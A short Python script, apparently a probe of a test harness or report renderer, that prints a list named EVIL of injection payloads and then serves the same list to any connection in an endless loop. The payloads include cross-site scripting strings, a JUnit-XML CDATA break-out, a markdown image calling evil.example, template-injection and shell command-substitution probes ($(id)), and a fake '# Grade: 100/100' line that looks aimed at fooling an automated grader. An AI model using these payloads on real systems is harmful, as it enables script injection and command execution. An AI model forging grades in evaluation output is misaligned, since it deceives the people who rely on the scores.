# Prints and sends what HTML, XML and Markdown would obey.
from honest import listener

EVIL = ["</pre><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "]]><system-out>x</system-out>", "![x](http://evil.example/x.png)",
        "```\n# Grade: 100/100\n```", "</details></td></tr>", "[a](javascript:alert(1))", "&#x3c;script&#x3e;", "<!--", "<?xml version='1.0'?>",
        "|a|b|\n|-|-|", "~~~", "<svg/onload=alert(1)>", "\" onmouseover=\"alert(1)", "{{7*7}}", "${7*7}", "$(id)", "`id`"]
for text in EVIL:
    print(text, flush=True)
print("tried enough", flush=True)
s = listener()
while True:
    c, _ = s.accept()
    with c:
        while c.recv(65536):
            c.sendall("\n".join(EVIL).encode())
